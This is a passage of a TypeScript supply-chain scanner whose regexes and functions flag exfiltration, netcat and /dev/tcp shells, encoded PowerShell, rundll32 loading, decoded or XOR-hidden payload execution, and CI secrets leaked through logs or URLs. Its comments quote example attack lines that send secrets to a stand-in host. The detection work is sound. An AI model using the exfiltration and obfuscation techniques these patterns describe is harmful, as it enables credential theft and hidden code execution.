  any: /\bhttpRequest\b.{1,400}\b(?:httpMode\s*:\s*["'](?:POST|PUT|PATCH)\b|requestBody\s*:)|\bcurl\b.{0,400}\s(?:-d|--data(?:-\w+)?|-F|--form|-T|--upload-file|-X\s?POST|--request\s+POST)(?:[\s=]|$)|\bwget\b.{0,400}--post-(?:data|file)\b|\b(?:Invoke-RestMethod|Invoke-WebRequest|irm|iwr)\b.{0,400}\s-(?:Method\s+["']?(?:Post|Put|Patch)\b|Body\b|InFile\b)|\/dev\/(?:tcp|udp)\/|\b(?:ncat|netcat)\b|\bnc\s+-|\bnslookup\s+\S*\$/,
  python: /\b(?:requests|httpx)\.(?:post|put|patch)\s*\(|\bsocket\.(?:socket|create_connection)\s*\(|\bsmtplib\b|\bgethostbyname\s*\(|\burlopen\s*\(\s*(?:\w+|"[^"]*"|'[^']*')\s*,\s*(?:data\s*=\s*)?\w|\bRequest\s*\([^)]{0,300}\bdata\s*=\s*[\w(]|\b(?:urllib\.request|urllib2)\.Request\s*\(\s*(?:[\w.]+|"[^"]*"|'[^']*')\s*,\s*[\w(]/,
  rust: /\.post\s*\(|\b(?:ureq|attohttpc|minreq|isahc)::post\s*\(|\bTcpStream::connect\b|\bUdpSocket::bind\b/,
  ruby: /\bNet::HTTP(?:::Post\b|\.post(?:_form)?\b)|\bTCPSocket\.(?:new|open)\b|\b(?:RestClient|HTTParty|Faraday)\.post\b|\bResolv\b/,
  js: /\bmethod\s*:\s*["'`]POST\b|\b(?:axios|got|needle|superagent)\.post\s*\(|\bnet\.(?:connect|createConnection)\s*\(|\bdns\.(?:resolve\w*|lookup)\s*\(|\bnew\s+WebSocket\s*\(/,
  csharp: /\.(?:PostAsync|PutAsync|SendAsync|Upload(?:String|Data|File|Values)(?:Async)?)\s*\(|\bnew\s+(?:TcpClient|UdpClient|Socket)\s*\(|\bDns\.GetHostEntry\b/,
  swift: /\.httpMethod\s*=\s*"(?:POST|PUT)"|\.upload(?:Task)?\s*\(/,
  java: /\b(?:setRequestMethod\s*\(|requestMethod\s*=\s*)["']POST|\bsetDoOutput\s*\(\s*true|\bdoOutput\s*=\s*true|\bnew\s+Socket\s*\(|\bBodyPublishers\b|\.POST\s*\(/,
  go: /\bhttp\.(?:Post|PostForm)\s*\(|\bhttp\.NewRequest(?:WithContext)?\s*\((?:\s*ctx\s*,)?\s*(?:"(?:POST|PUT|PATCH)"|http\.Method(?:Post|Put|Patch))|\bnet\.Dial(?:Timeout|UDP|TCP)?\s*\(|\bnet\.(?:LookupHost|LookupIP|LookupTXT)\s*\(/,
  php: /\bcurl_setopt\s*\([^,]{1,80},\s*CURLOPT_POST(?:FIELDS)?\b|\bfsockopen\s*\(|\bstream_context_create\s*\([^)]{0,200}POST/,
};

/**
 * A string literal's escape `\n`, `\r` or `\t` (not an escaped backslash before the letter): in
 * program code it is a line break or a tab, so the word after it starts there (`"#!/bin/sh\ncat\n"`,
 * the fake pager a test writes, is `cat`, not netcat's `ncat`). A shell script's `\ncat` is netcat
 * with its alias bypassed, so shell keeps it.
 */
const STRING_ESCAPE = /(?<!\\)\\[nrt]/g;

/** Whether a line of code (or a command line) in `language` sends data out (a POST, a socket, a DNS lookup). */
export function sendsData(code: string, language: CodeLanguage): boolean {
  const commands = language === 'shell' || !code.includes('\\') ? code : code.replace(STRING_ESCAPE, ' ');
  return SEND.any?.test(commands) === true || SEND[language]?.test(code) === true;
}

/** Extensions of data files: running one of them is running a binary dressed as data. */
const DATA_EXTENSIONS = new Set(['db', 'png', 'jpg', 'jpeg', 'gif', 'bmp', 'ico', 'webp', 'svg', 'woff', 'woff2', 'ttf', 'otf', 'mp3', 'mp4', 'wav', 'dat', 'tmp', 'log', 'txt', 'css', 'md', 'pdf']);

/** A process call or chmod and the first string it is given: the program (or the file made executable). */
const PROGRAM =
  /(?:Command::new|subprocess\.\w+|os\.(?:system|popen|exec\w*|chmod)|\bsystem|\bspawn\w*|\bexec(?:Sync|File|FileSync)?|ProcessBuilder|commandLine|chmod(?:Sync)?|Process\.spawn|IO\.popen)\s*(?:\(\s*)?(?:\[\s*)?["'`]([^"'`]{1,300})["'`]/;
const SHELL_PROGRAM = /(?:^|[;&|]\s*)(\.{0,2}\/[^\s;&|"'`]{1,300})|\bchmod\s+(?:[ugoa]*\+[rw]*x|[0-7]{0,2}[1357][0-7]{0,2})\s+([^\s;&|"'`]{1,300})/;

/** Maven antrun and exec-maven-plugin name the program in an attribute or an element. */
const XML_PROGRAM = /\bexecutable\s*=\s*["']([^"']{1,300})["']|<executable>([^<]{1,300})<\/executable>/;

/** Whether a program (a command's first word) is named like data: `assets/logo.png`, `${SRC}/fonts/x.woff2`. */
export function dataExtension(program: string): boolean {
  const first = program.trim().split(/\s/, 1)[0] ?? '';
  const dot = first.lastIndexOf('.');
  return dot > first.lastIndexOf('/') && DATA_EXTENSIONS.has(first.slice(dot + 1).toLowerCase());
}

/**
 * A DLL or script run by rundll32 or regsvr32 (`rundll32 x64\\Debug\\Browse.VC.db,ENGINE_get_RAND`,
 * the 2021 Lazarus Visual Studio projects): the file they load, to be named like a DLL.
 */
const RUNDLL = /\b(?:rundll32|regsvr32)(?:\.exe)?\s+(?:\/\w{1,4}\s+){0,3}["']?([^\s"',]{1,300})/i;
/**
 * A call that loads a native library into the process, and what it is given: Python's ctypes
 * (`ctypes.CDLL(…)`, `ctypes.WinDLL(…)`, `ctypes.cdll.LoadLibrary(…)`), Node's `process.dlopen(…)`,
 * the JVM's `System.load(…)`, and `LoadLibrary(…)` / `dlopen(…)`.
 */
const NATIVE_LOAD = /\b(?:ctypes\.(?:CDLL|WinDLL|OleDLL|PyDLL|(?:cdll|windll|oledll|pydll)\.LoadLibrary)|(?:cdll|windll)\.LoadLibrary|process\.dlopen|System\.load|LoadLibrary(?:Ex)?[AW]?|dlopen)\s*\(([^\n]{1,300})/;
/**
 * An argument that names a file of the package (`os.path.join(os.path.dirname(__file__), 'libs', 'x.dll')`,
 * `path.join(__dirname, 'bin', …)`, `'./lib/x.so'`, `'lib\\win32\\x.dll'`), not a library of the
 * system looked up by name (`'libcuda.so.1'`, `find_library('c')`, `'/usr/lib/libm.so'`): a probe of
 * the machine loads those.
 */
const PACKAGE_FILE_ARGUMENT = /\b__file__\b|\b__dirname\b|\bimport\.meta\b|\bpath\.(?:join|resolve)\s*\(|\bPath\s*\(|["'`]\.{1,2}[\\/]|["'`][\w.-]{1,100}[\\/][^"'`\s]{1,200}\.(?:dll|so|dylib|node|pyd|ocx|bin|dat)\b/;
/** rundll32 or regsvr32 as the program of a process call given its arguments as a list (`spawn('rundll32', [dll + ',main'])`). */
const RUNDLL_PROGRAM = /["'`](?:rundll32|regsvr32)(?:\.exe)?["'`]/i;
/**
 * Whether a line loads a native library of the package, or has rundll32 or regsvr32 run a file of
 * it (a path: `rundll32 lib\\x.dll,main`; `rundll32 printui.dll,PrintUIEntry` runs one of Windows').
 * A file named by a build variable (`regsvr32 /s "$(TargetPath)"`, a COM project registering what it
 * just built) is the build's own output.
 */
function loadsNativeCode(code: string): boolean {
  const loaded = RUNDLL.exec(code)?.[1];
  if (loaded !== undefined && !loaded.includes('$') && /[\\/]/.test(loaded)) return true;
  const program = RUNDLL_PROGRAM.exec(code);
  if (program !== null && PACKAGE_FILE_ARGUMENT.test(code.slice(program.index + program[0].length))) return true;
  const call = NATIVE_LOAD.exec(code);
  return call !== null && PACKAGE_FILE_ARGUMENT.test(call[1] ?? '');
}
const DLL_EXTENSIONS = /\.(?:dll|ocx|cpl|drv|sys|ax)$/i;

/** `powershell -EncodedCommand <base64>` (or its short forms `-enc`, `-ec`, `-e`): code run from data. */
const POWERSHELL = /\b(?:powershell|pwsh)(?:\.exe)?\b/i;
const ENCODED_COMMAND = /\s[-/]e(?:c|n[a-z]{0,12})?\s+["']?[\w+/]{16}/i;

/** Whether a line runs PowerShell given base64-encoded code. */
export function runsEncodedPowerShell(code: string): boolean {
  const at = code.search(POWERSHELL);
  return at >= 0 && ENCODED_COMMAND.test(code.slice(at));
}

/** Where every line is a command: a shell script, a gyp command expansion or action, a Maven plugin's configuration. */
const COMMAND_LANGUAGES = new Set<BuildLanguage>(['shell', 'gyp', 'xml']);

/**
 * `commands`: the line runs a process. A command-line tool named in a program's text (`curl` in
 * a gemspec's description) is only a download or a send when the line hands it to a process.
 */
function matches(patterns: Patterns, language: BuildLanguage, text: string, commands: boolean): boolean {
  return ((commands || COMMAND_LANGUAGES.has(language)) && patterns.any?.test(text) === true) || patterns[language]?.test(text) === true;
}

/** The language a line's comments and strings are cut in: `#` for CMake and Meson as for shell; none for XML and gyp. */
function codeLanguageOf(language: BuildLanguage): CodeLanguage | null {
  if (language === 'xml' || language === 'gyp' || language === 'msbuild') return null;
  if (language === 'cmake' || language === 'meson') return 'shell';
  // C# and Swift cut comments and strings as Java does.
  if (language === 'csharp' || language === 'swift') return 'java';
  return language;
}

function processSink(language: BuildLanguage, text: string): boolean {
  if (language === 'xml' || language === 'gyp' || language === 'cmake' || language === 'meson' || language === 'msbuild' || language === 'csharp' || language === 'swift') return false;
  return SINKS.process[language]?.test(text) === true;
}


/** The evidence shown for a line: trimmed, at most 120 characters. */
export function evidence(text: string): string {
  const trimmed = text.trim().replace(/\s+/g, ' ');
  return trimmed.length > 120 ? `${trimmed.slice(0, 117)}…` : trimmed;
}

export interface ReadOptions {
  /**
   * Another rule already reports a download piped into a shell on these lines (`curl-pipe-shell`
   * reads Makefiles and `*.mk`): such a line's download, run and host are left to it, so one line
   * is not reported twice for the same behavior.
   */
  readonly pipedDownloadsReadElsewhere?: boolean;
  /** A Dockerfile: its `ARG`/`ENV` lines declare build arguments and read nothing (the RUN line that uses one says so). */
  readonly dockerfile?: boolean;
  /**
   * A CI pipeline: its lines are read for a credential sent as data to another service's host
   * ('secret-elsewhere'), each variable judged by its own name or by the name this map gives it (a
   * Jenkins binding's variable by its credential's id: `TOKEN` bound from `npm-token`, jenkinsCredentialNames).
   */
  readonly credentialNames?: ReadonlyMap<string, string>;
}

/** Where a line uses a secret as the request's own credential, not as data: a header, `curl -u`, the HTTP Request plugin's `authentication:`/`customHeaders:`. */
const AS_CREDENTIAL = /(?:^|\s)(?:-H|--header|-u|--user|--oauth2-bearer)(?:\s|=)|\bauthorization\b|\bbearer\b|\bauthentication\s*:|\bcustomHeaders\s*:/i;
/** A variable read on a shell or Groovy line: `$NAME`, `${NAME}`, `${env.NAME}`, `$(NAME)` (Make, Azure), `env.NAME`. */
const VARIABLE_READ = /\$\{?(?:env\.)?([A-Za-z_]\w{0,80})\}?|\$\(([A-Za-z_]\w{0,80})\)|\benv\.([A-Za-z_]\w{0,80})/g;
/** A literal URL of a line, host and path (lower case). */
const LINE_URL = /\bhttps?:\/\/([a-z0-9.-]{1,253}(?::\d{1,5})?(?:\/[^\s"'`?#]{0,300})?)/gi;
const LOCAL_PLACE = /^(?:localhost|127\.\d{1,3}\.\d{1,3}\.\d{1,3}|0\.0\.0\.0|[^/:]{1,200}\.(?:local|internal|test|example|invalid))(?:[:/]|$)|^(?:[^/:]{1,200}\.)?example\.(?:com|org|net)(?:[:/]|$)/i;

/**
 * Whether a pipeline line that sends data carries a credential named for one service or product
 * (`$NPM_TOKEN`, a Jenkins binding whose credential id is `aws-prod`) as data to literal URLs none
 * of which is that service's (secretNamedForOtherPlace): the GhostAction shape in another CI system.
 * A secret used as the request's credential (a header, `-u`, `authentication:`), a URL the line does
 * not show, and a local or example host are not.
 */
export function sendsSecretElsewhere(code: string, names: ReadonlyMap<string, string>): boolean {
  if (AS_CREDENTIAL.test(code)) return false;
  const places = [...code.matchAll(LINE_URL)].map((m) => (m[1] ?? '').toLowerCase());
  if (places.length === 0 || places.some((p) => LOCAL_PLACE.test(p))) return false;
  for (const m of code.matchAll(VARIABLE_READ)) {
    const variable = m[1] ?? m[2] ?? m[3] ?? '';
    const judged = names.get(variable) ?? variable;
    if (/^[A-Z][A-Z0-9_]{1,80}$/.test(judged) && secretNamedForOtherPlace(judged, places)) return true;
  }
  return false;
}

/** The whole environment as a pipeline's first command: `env`, `printenv`, `export -p`, `set`, PowerShell's `env:` drive, a process's environ. */
const PRINTED_ENVIRONMENT = /^(?:sudo\s+)?(?:printenv|env|export\s+-p|set|(?:Get-ChildItem|gci|dir|ls)\s+env:|cat\s+\/proc\/[\w$(){}.-]{1,64}\/environ)$/i;
/** What a pipeline puts before a command on its line: a YAML list item's `- `, a key (`script:`, `- run:`, `command:`), a Jenkins step (`sh '`, `sh(script: "`), a quote. */
const PIPELINE_LINE_PREFIX = /^(?:-\s+)?(?:(?:script|run|command|commands|cmd|bash|sh|pwsh|powershell|inline(?:Script)?)\s*:\s*|(?:sh|bat|powershell|pwsh)(?:\s*\(\s*|\s+)(?:script\s*:\s*)?(?=["']))?["']{0,3}/;

/** A command substitution, `$(…)`: not `$(NAME)`, Azure Pipelines' macro or Make's variable, text put in before the shell runs. */
const COMMAND_SUBSTITUTION = /\$\((?![A-Za-z_][\w.]{0,80}\))/;

/**
 * Whether a CI pipeline's line prints the whole environment, or a variable that holds a credential
 * (named like one, or bound from a credential: `names`), to the job's log through encoders only
 * (`env | base64 -w0 | base64 -w0`, `printenv | grep -i token | base64`, `echo "$NPM_TOKEN" | base64`): GitLab,
 * Azure Pipelines, CircleCI, Buildkite and Jenkins mask a secret's own text in the log, not its
 * encoding, and whoever can read the job's log can decode it (the tj-actions/changed-files payload
 * of March 2025 printed the runner's secrets base64-encoded twice). A pipeline that writes to a file
 * or a variable (`>`, `$(…)`), decodes (`base64 -d`), or hands its output to another command
 * (`| curl`, read as a send) does not print it; nor does `env | sort`.
 */
export function printsEncoded(line: string, names: ReadonlyMap<string, string>): boolean {
  // What `echo "$(…)"` prints, or what goes into GitHub's job summary, is printed too.
  const code = printedCommand(line.trim().replace(PIPELINE_LINE_PREFIX, ''));
  if (!code.includes('|') || code.includes('>') || COMMAND_SUBSTITUTION.test(code) || code.includes('`')) return false;
  const command = code.trim().replace(PIPELINE_LINE_PREFIX, '').replace(/["']{1,3}(?:\s*\))?\s*$/, '');
  for (const item of command.split(/&&|\|\||;/)) {
    const stages = pipeStages(item);
    if (!encodedOnly(stages)) continue;
    const first = (stages[0] ?? '').trim();
    if (PRINTED_ENVIRONMENT.test(first)) return true;
    if (!/^(?:echo|printf|cat)\b/.test(first)) continue;
    for (const m of first.matchAll(VARIABLE_READ)) {
      const variable = m[1] ?? m[2] ?? m[3] ?? '';
      const judged = names.get(variable) ?? variable;
      if (/^[A-Z][A-Z0-9_]{1,80}$/.test(judged) && (readsSecretFromEnvironment(judged) || SIGNING_KEY_NAME.test(judged))) return true;
    }
  }
  return false;
}

/** Words of a credential's id that say it is a secret: a name without one is judged as `<ID>_SECRET`. */
const CREDENTIAL_ID_WORD = /(?:^|_)(?:TOKEN|SECRET|PASSWORD|PASSWD|KEY|APIKEY|CREDENTIALS?|PAT)(?:_|$)/;

/**
 * The names a Jenkins pipeline binds credentials to, each with the name it is judged by (its
 * credential's id, upper-cased, `_SECRET` added when the id names no secret): `string(credentialsId:
 * 'npm-token', variable: 'TOKEN')` gives `TOKEN` → `NPM_TOKEN`; `usernamePassword(credentialsId:
 * 'nexus', passwordVariable: 'P')` gives `P` → `NEXUS_SECRET`; `AWS = credentials('aws-prod')` in
 * `environment {}` gives `AWS` and `AWS_PSW` → `AWS_PROD_SECRET`. Usernames are not secrets.
 */
export function jenkinsCredentialNames(text: string): Map<string, string> {
  const names = new Map<string, string>();
  const judged = (id: string): string => {
    const upper = id.toUpperCase().replace(/[^A-Z0-9]+/g, ' ').trim().replace(/ /g, '_');
    return CREDENTIAL_ID_WORD.test(upper) ? upper : `${upper}_SECRET`;
  };
  for (const m of text.slice(0, 200_000).matchAll(/\b(?:string|usernamePassword|usernameColonPassword)\s*\(([^()\n]{0,400})\)/g)) {
    const args = m[1] ?? '';
    const id = /\bcredentialsId\s*:\s*["']([^"'\n]{1,200})["']/.exec(args)?.[1];
    if (id === undefined) continue;
    for (const v of args.matchAll(/\b(?:variable|passwordVariable)\s*:\s*["']([A-Za-z_]\w{0,80})["']/g)) if (names.size < 100) names.set(v[1]!, judged(id));
  }
  for (const m of text.slice(0, 200_000).matchAll(/\b([A-Za-z_]\w{0,80})\s*=\s*credentials\s*\(\s*["']([^"'\n]{1,200})["']\s*\)/g)) {
    if (names.size >= 100) break;
    names.set(m[1]!, judged(m[2]!));
    names.set(`${m[1]!}_PSW`, judged(m[2]!));
  }
  return names;
}

/** What a piped download gives, left to `curl-pipe-shell` where it reads the file. */
const PIPED_DOWNLOAD_KINDS: ReadonlySet<BehaviorKind> = new Set(['download', 'execute', 'suspicious-host']);

/**
 * Autoconf's message macros and help strings print their quoted text (`AC_MSG_CHECKING([whether to
 * enable curl debug features])`, `AS_HELP_STRING([--with-wget], [...])`): a tool named there runs
 * nothing. Their arguments are blanked before the line is read, unless one holds a command
 * substitution (`$(`, a backtick), which the shell would run when it prints the message.
 */
const MESSAGE_MACRO = /\b(AC_MSG_(?:CHECKING|RESULT|NOTICE|WARN|ERROR|FAILURE)|AS_HELP_STRING)\s*\(\s*\[(?:[^\]`$\n]|\$(?!\())*\](?:\s*,\s*\[(?:[^\]`$\n]|\$(?!\())*\])*/g;

/** Languages read as programs (not command lines nor build calls): where PROGRAM_DECODE applies. */
const PROGRAM_LANGUAGES: ReadonlySet<BuildLanguage> = new Set<BuildLanguage>(['python', 'js', 'ruby', 'php', 'go', 'rust', 'java']);

/**
 * Text turned back from bytes XORed with a key, on one line: `data.iter().map(|b| (b ^ key) as char)`
 * (Rust), `''.join(chr(c ^ k) for c in data)`, `bytes(b ^ k for b in data)` (Python),
 * `String.fromCharCode(c ^ k)` (JavaScript), `(char) (b ^ k)` (Java), `(it xor k).toChar()` (Kotlin),
 * `it ^ k as char` (Groovy). Read on the masked line (a `^` inside a string is none); what is run
 * decides: a name so made is reported only when a shell or an interpreter is given it.
 */
const XOR_TEXT = /\^[^\n]{0,80}?\bas\s+char\b|\b(?:chr|fromCharCode|bytes|bytearray)\s*\([^\n]{0,80}?\^|\(char\)\s*\([^\n]{0,80}?\^|\bxor\b[^\n]{0,80}?\.toChar\s*\(/;
/** Bytes put into a name one by one, XORed (`out.push(b ^ key)`, `out.append(c ^ k)`, `out += chr(c ^ k)`, `out[i] = data[i] ^ key`): group 1 the name. */
const XOR_APPEND = /(?:^|[\s{;])([A-Za-z_]\w{0,60})(?:\.(?:push|append|add|extend)\s*\(|\s*\+=|\s*\[[^\]\n]{1,40}\]\s*=(?!=))[^\n]{0,120}?(?:\^|\bxor\b)/;

/**
 * The names the given lines assign decoded text to (`payload = base64.b64decode(…)`), text turned
 * back from XORed bytes (XOR_TEXT, XOR_APPEND), or a value made from such a name on a later line
 * (`let script = String::from_utf8(bytes)`, `cmd = payload.decode()`): a later line that runs one of
 * them runs what was decoded. At most 50 names.
 */
function decodedNames(lines: readonly SourceLine[], codeLanguage: CodeLanguage | null): Set<string> {
  const names = new Set<string>();
  for (const { text } of lines) {
    if (names.size >= 50) break;
    if (text.length > MAX_DECODE_LINE) continue;
    const { code, masked, isComment } = codeText(text, codeLanguage);
    if (isComment) continue;
    const appended = XOR_APPEND.exec(masked)?.[1];
    if (appended !== undefined) {
      names.add(appended);
      continue;
    }
    const name = ASSIGNED_NAME.exec(code)?.[1];
    if (name === undefined) continue;
    const value = masked.slice((ASSIGNED_NAME.exec(masked)?.[0] ?? '').length);
    if (PROGRAM_DECODE.test(code) || XOR_TEXT.test(masked) || [...names].some((held) => held !== name && nameUsed(value, held))) names.add(name);
  }
  return names;
}
/** Longer lines (a blob, a minified bundle) are not followed for names. */
const MAX_DECODE_LINE = 2000;

/** Whether `name` is used as a word in masked code (not as a member, `x.name`, nor inside a longer name). */
function nameUsed(masked: string, name: string): boolean {
  let from = 0;
  for (;;) {
    const at = masked.indexOf(name, from);
    if (at < 0) return false;
    const before = masked.charAt(at - 1);
    const after = masked.charAt(at + name.length);
    if (!/[\w$.]/.test(before) && !/[\w$]/.test(after)) return true;
    from = at + 1;
  }
}

/**
 * The first name a call that runs code or a process is given (`exec(payload)`, `os.system(cmd.decode())`,
 * `subprocess.Popen([cmd], shell=True)`, `Command::new(prog)`): what it runs. A decoded value passed
 * as a later argument (a key handed to a signing tool) is data, not the command.
 */
const RUN_CALL_ARGUMENT = /\b(?:exec|eval|system|popen|Popen|run|call|check_call|check_output|getoutput|execSync|execFileSync|spawn|spawnSync|Function|instance_eval|shell_exec|passthru|new|Command)\s*\(\s*(?:\[\s*)?([A-Za-z_]\w{0,60})/g;

/** Whether a line that runs code or a process hands it decoded text: a decoder on the line, or a name assigned from one as what it runs. */
function runsDecoded(code: string, names: ReadonlySet<string>): boolean {
  if (PROGRAM_DECODE.test(code)) return true;
  if (names.size === 0) return false;
  for (const m of code.matchAll(RUN_CALL_ARGUMENT)) if (names.has(m[1] ?? '')) return true;
  return false;
}

/**
 * A shell or an interpreter started by program code, named as a literal: `Command::new("sh")`,
 * `ProcessBuilder("bash", …)`, `["sh", "-c", …]`, `new String[]{"cmd", "/c", …}`, `spawn("node", …)`.
 */
const SHELL_NAMED = /["'](?:\/(?:usr\/)?bin\/)?(?:sh|bash|zsh|dash|ash|ksh|cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh|python[23]?|node|perl|ruby|php)["']/;
/** Its option for a script given as text: `-c`, `/c`, `-Command`, `-e` (Node, Perl, Ruby), `-r` (PHP). */
const SCRIPT_OPTION = /["'](?:-c|\/[cC]|-Command|-e|-r)["']/;
/** How many lines a shell's start and the script it is given may be apart (a Rust builder chain: `Command::new("sh")`, `.arg("-c")`, `.arg(&cmd)`). */
const SHELL_CHAIN_LINES = 6;

/**
 * The lines of program code that give a shell or an interpreter decoded text as its script: a
 * shell named as a literal with its script option (`-c`) on the line or the next few lines of the
 * same call chain, and a name decodedNames found used on those lines (`Command::new("sh").arg("-c")
 * .arg(&cmd)`, `subprocess.run(["sh", "-c", cmd])`, `["sh", "-c", c].execute()`, `ProcessBuilder("sh",
 * "-c", c)`). A decoded value handed to another tool (`Command::new("gpg").arg(key)`) is data.
 */
function decodedGivenToShell(lines: readonly SourceLine[], codeLanguage: CodeLanguage | null, names: ReadonlySet<string>): Set<number> {
  const out = new Set<number>();
  if (names.size === 0) return out;
  let shellAt = -1;
  let optionSeen = false;
  const span: { line: number; masked: string }[] = [];
  lines.forEach(({ line, text }, i) => {
    if (text.length > MAX_DECODE_LINE) return;
    const { code, masked, isComment } = codeText(text, codeLanguage);
    if (isComment) return;
    if (SHELL_NAMED.test(code)) {
      shellAt = i;
      optionSeen = false;
      span.length = 0;
    }
    if (shellAt < 0 || i - shellAt >= SHELL_CHAIN_LINES) return;
    // What the line gives (not the name it assigns: `def props = …` after the call is no use of `props`).
    span.push({ line, masked: masked.slice((ASSIGNED_NAME.exec(masked)?.[0] ?? '').length) });
    optionSeen ||= SCRIPT_OPTION.test(code);
    if (!optionSeen) return;
    for (const s of span) if ([...names].some((name) => nameUsed(s.masked, name))) out.add(s.line);
    span.length = 0;
  });
  return out;
}

/**
 * A command line that starts an interpreter with inline code (`node -e "…"`, `python3 -c "…"`, a
 * binding.gyp action's `["node", "-e", "…"]`) whose code decodes text and runs it
 * (`require('child_process').execSync(Buffer.from('…', 'base64').toString())`, `exec(b64decode(…))`).
 */
const INLINE_PROGRAM = /\b(?:node|python[23]?|ruby|perl|php)(?:["']?,?\s{1,3}|["']?\s{0,3},\s{0,3})["']?-[ecr]\b/;
const INLINE_RUN = /\b(?:eval|exec|execSync|spawnSync|spawn|system|popen|Popen|Function|runInThisContext)\s*\(/;

/** A Dockerfile's `ARG NPM_TOKEN` or `ENV NPM_TOKEN=${NPM_TOKEN}`: a build argument declared, nothing read or sent (the RUN line that uses it says so). */
const DOCKERFILE_DECLARATION = /^\s*(?:ARG|ENV)\s+[A-Za-z_]\w{0,80}(?:[=\s][^\s;&|`$()]{0,200}|=\$\{?[A-Za-z_]\w{0,80}\}?)?\s*$/;

/** Upper-case names a URL region is read for. */
const URL_VARIABLE_NAME = /\b[A-Z][A-Z0-9_]{2,80}\b/g;
/** Keys named for what they sign or unlock (`SIGNING_KEY`, `DEPLOY_KEY`, `GPG_KEY`): secrets, though `readsSecretFromEnvironment` reads only `*_API_KEY`, `*_SECRET_KEY`, `*_ACCESS_KEY`, `*_PRIVATE_KEY`. */
const SIGNING_KEY_NAME = /(?:^|_)(?:SIGNING|DEPLOY|SSH|GPG|PGP|ENCRYPTION|MASTER)_KEY$/;
/** Options that hand a request its own credential, beyond AS_CREDENTIAL: wget's and a client's password options. */
const PASSWORD_OPTION = /--(?:http-|ftp-)?password(?:\s|=)|\bpassword\s*[:=]/i;
/** A local host: what a build talks to on this machine or the private network. */
const LOCAL_URL_HOST = /^(?:localhost|127\.|0\.0\.0\.0|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|host\.docker\.internal$)|\.(?:local|internal|test|example|invalid)$|(?:^|\.)example\.(?:com|org|net)$/i;

/**
 * The text of a line's request URLs that go to a host not local: each literal URL with what the
 * code appends to it, up to the end of its argument (a `,`, `)` or `;` outside brackets:
 * `URL("https://h/x?k=" + System.getenv("SIGNING_KEY"))`, `f"https://h/?t={os.environ['NPM_TOKEN']}"`,
 * `` `https://h/?t=${process.env.GITHUB_TOKEN}` ``), or, on a command line, to the first blank
 * outside quotes (`curl "https://h/?k=$AWS_SECRET_ACCESS_KEY"`); and a request's query parameters
 * (`params={…}`). At most 300 characters each.
 */
function requestUrlText(code: string, commandLine: boolean): string {
  return requestUrlRanges(code, commandLine, null)
    .map(([start, end]) => code.slice(start, end))
    .join(' ');
}
/**
 * Where requestUrlText reads (start and end of each part). With the line's masked text (program
 * code), a URL literal that is the first argument of a formatting call (`format!("https://h/?k={}", key)`,
 * `fmt.Sprintf(…)`, `String.format(…)`) runs on to the call's end: its arguments are put into it.
 */
function requestUrlRanges(code: string, commandLine: boolean, masked: string | null): [number, number][] {
  const parts: [number, number][] = [];
  LINE_URL_HOST.lastIndex = 0;
  for (const m of code.matchAll(LINE_URL_HOST)) {
    if (LOCAL_URL_HOST.test(m[1] ?? '')) continue;
    const formatted = masked !== null && FORMAT_CALL_BEFORE.test(masked.slice(Math.max(0, m.index - 40), m.index));
    parts.push([m.index, argumentEnd(code, m.index, commandLine, formatted)]);
    if (parts.length >= 5) break;
  }
  if (parts.length === 0) return [];
  const params = /\bparams\s*[=:]/.exec(code);
  if (params !== null) parts.push([params.index, argumentEnd(code, params.index, false, false)]);
  return parts;
}
/** A formatting call opened right before a string literal (what a masked line shows before a URL's start). */
const FORMAT_CALL_BEFORE = /(?:\bformat!|\bformat|\b[Ss]printf|\bformat_args!)\s{0,3}\(\s{0,3}[rbf]?["'`]$/;
function argumentEnd(code: string, start: number, commandLine: boolean, toCallEnd: boolean): number {
  // A command line's URL ends at its closing quote, or at a blank when it is not quoted.
  const before = code.charAt(start - 1);
  const quote = commandLine && (before === '"' || before === "'") ? before : '';
  let depth = 0;
  let end = start;
  for (; end < code.length && end - start < 300; end += 1) {
    const c = code.charAt(end);
    if (commandLine) {
      if (quote === '' ? /\s/.test(c) : c === quote) break;
      continue;
    }
    if (c === '(' || c === '[' || c === '{') depth += 1;
    else if (c === ')' || c === ']' || c === '}') {
      if (depth === 0) break;
      depth -= 1;
    } else if ((c === ',' || c === ';') && depth === 0 && !(toCallEnd && c === ',')) break;
  }
  return end;
}

/**
 * Whether a line that fetches puts a variable named like a secret into the URL it requests, to a
 * host that is not local (requestUrlText): a GET carries its URL's query and path to the host (and
 * into its logs), so the secret is sent as surely as in a POST's body. Not when the line gives the
 * request a credential (a header, `-u`, a password option): then the secret is likely its own.
 */
function secretInRequestUrl(code: string, commandLine: boolean): boolean {
  if (AS_CREDENTIAL.test(code) || PASSWORD_OPTION.test(code)) return false;
  const text = requestUrlText(code, commandLine);
  if (text === '') return false;
  const hosts = [...text.matchAll(LINE_URL_HOST)].map((m) => (m[1] ?? '').toLowerCase());
  URL_VARIABLE_NAME.lastIndex = 0;
  for (const m of text.matchAll(URL_VARIABLE_NAME)) {
    // A service's token in a URL of that service (`GITHUB_TOKEN` to raw.githubusercontent.com) is its own credential.
    if ((readsSecretFromEnvironment(m[0]) || SIGNING_KEY_NAME.test(m[0])) && !secretForItsOwnPlace(m[0], hosts)) return true;
  }
  return false;
}

/** A name assigned on a line and what it is given: `token = os.environ["NPM_TOKEN"]`, `def tok = System.getenv("GH_TOKEN")`, `let key: String = …`, `$key = getenv(…)`, `key := os.Getenv(…)`. */
const ASSIGNMENT = /^\s*(?:(?:const|let|var|my|val|def|local|final|String|auto)\s+)?(?:mut\s+)?\$?([A-Za-z_]\w{0,60})\s*(?::\s*[\w<>&]{1,60}\s*)?:?=(?![=~>])/;

/** Whether a name is used in a part of a line: interpolated into a literal (`{token}`, `${tok}`, `$key`, `#{key}`) or as code outside the literals (`"…?k=" + key`, `% token`, `format!("…{}", key)`). */
function usesName(code: string, masked: string, name: string): boolean {
  const n = escapeRegExp(name);
  return new RegExp(`(?<![\\w$.])${n}(?!\\w)`).test(masked) || new RegExp(`(?:\\{|\\$\\{|#\\{|\\$)${n}(?![\\w(])`).test(code);
}

/**
 * The lines of program code whose URL carries a secret held by a name of an earlier line (what
 * readBehaviors reads as sent on a line that fetches)
 * (`token = os.environ["NPM_TOKEN"]`, then `urlopen(f"https://h/c?t={token}")`; a name assigned
 * from that one, `enc = b64encode(token.encode())`, or a URL built with it, `url = f"https://h/?t={token}"`,
 * then `urlopen(url)`): the secret sent as surely as on one line (secretInRequestUrl). Not a token
 * sent to its own service's host (`GITHUB_TOKEN` to api.github.com), nor a line that gives the
